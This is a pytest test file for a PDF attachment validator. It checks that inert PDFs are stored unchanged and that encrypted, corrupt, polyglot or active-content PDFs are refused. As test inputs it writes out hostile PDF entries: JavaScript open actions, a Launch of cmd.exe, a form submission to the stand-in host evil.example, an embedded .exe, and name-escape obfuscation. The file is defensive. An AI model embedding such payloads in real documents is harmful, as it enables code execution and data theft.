"""PDFs: kept byte for byte when inert; refused when broken, encrypted or able to run something."""

from __future__ import annotations

import pytest

from cna_relay.reports.attachments import AttachmentLimits, AttachmentRejected, process_attachment
from tests.support import images


def refusal(data: bytes, **options: object) -> str:
    with pytest.raises(AttachmentRejected) as caught:
        process_attachment("document.pdf", data, **options)  # type: ignore[arg-type]
    assert (caught.value.code, caught.value.status) == ("unsupported_attachment", 415)
    return caught.value.errors[0].code


def test_a_plain_pdf_is_stored_as_sent() -> None:
    original = images.pdf()
    processed = process_attachment("Bewijs van aangifte.pdf", original)
    assert processed.data == original
    assert (processed.content_type, processed.filename) == ("application/pdf", "Bewijs van aangifte.pdf")
    assert (processed.width, processed.height) == (None, None)


@pytest.mark.parametrize("version", ["1.4", "1.7", "2.0"])
def test_every_current_pdf_version_is_accepted(version: str) -> None:
    assert process_attachment("a.pdf", images.pdf(version=version)).content_type == "application/pdf"


def test_links_to_websites_are_fine() -> None:
    link = "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://zonnebeke.be) >> >>"
    assert process_attachment("a.pdf", images.pdf(objects=(link,))).content_type == "application/pdf"


def test_an_object_stream_without_actions_is_fine() -> None:
    assert (
        process_attachment("a.pdf", images.pdf_with_object_stream("<< /Dests 7 0 R >>")).filename == "a.pdf"
    )


@pytest.mark.parametrize(
    "catalog_entry",
    [
        "/OpenAction << /S /JavaScript /JS (app.alert('hi')) >>",
        "/OpenAction 5 0 R",
        "/AA << /WC << /S /JavaScript /JS (this.submitForm()) >> >>",
        "/Names << /JavaScript << /Names [(x) 5 0 R] >> >>",
        "/Names << /EmbeddedFiles << /Names [(invoice.exe) 5 0 R] >> >>",
        "/AcroForm << /XFA 5 0 R >>",
        "/OpenAction << /S /Launch /F (cmd.exe) >>",
        "/OpenAction << /S /SubmitForm /F (https://evil.example) >>",
        "/OpenAction << /S /GoToE /T << /R /C /N (x) >> >>",
        "/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>",  # #xx escapes
        "/Op#65nAction 5 0 R",
        "/RichMedia 5 0 R",
    ],
)
def test_active_content_is_refused(catalog_entry: str) -> None:
    assert refusal(images.pdf(catalog_entry)) == "active_content"


def test_javascript_hidden_in_a_compressed_object_stream_is_found() -> None:
    assert refusal(images.pdf_with_object_stream()) == "active_content"


def test_an_object_stream_we_cannot_decode_is_refused() -> None:
    hidden = images.pdf_with_object_stream("<< /S /JavaScript >>", stream_filter="/ASCIIHexDecode")
    assert refusal(hidden) == "corrupt_file"


def test_an_object_stream_that_inflates_past_the_budget_is_refused() -> None:
    big = images.pdf_with_object_stream("<< /Dests 7 0 R >>" + " " * 200_000)
    assert refusal(big, limits=AttachmentLimits(max_pdf_inflated_bytes=100_000)) == "corrupt_file"


def test_encrypted_pdfs_are_refused() -> None:
    data = images.pdf().replace(b"trailer\n<< ", b"trailer\n<< /Encrypt << /Filter /Standard /V 2 >> ")
    assert refusal(data) == "encrypted_pdf"


@pytest.mark.parametrize(
    "data",
    [
        images.pdf()[:-40],  # truncated: no trailer
        images.pdf().replace(b"%%EOF", b"%%EOX"),
        images.pdf().replace(b"startxref", b"startxreF"),
        b"%PDF-1.7\n%%EOF\n",
        b"%PDF-9.9\n" + images.pdf()[9:],  # no such version
        b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\nstartxref\n0\n%%EOF",  # no pages
    ],
)
def test_broken_pdfs_are_refused(data: bytes) -> None:
    assert refusal(data) == "corrupt_file"


def test_an_html_page_pretending_to_be_a_pdf_is_not_a_pdf() -> None:
    # Viewers accept junk before the header; we do not, so HTML/PDF polyglots never get through.
    data = b"<html><script>alert(1)</script></html>\n" + images.pdf()
    with pytest.raises(AttachmentRejected) as caught:
        process_attachment("x.pdf", data)
    assert caught.value.errors[0].code == "unsupported_type"


def test_a_javascript_name_inside_binary_stream_data_is_not_a_false_alarm() -> None:
    binary = "<< /Length 12 >>\nstream\n\x00/JS \x00/AA\x00\x00\nendstream"
    assert process_attachment("a.pdf", images.pdf(objects=(binary,))).content_type == "application/pdf"
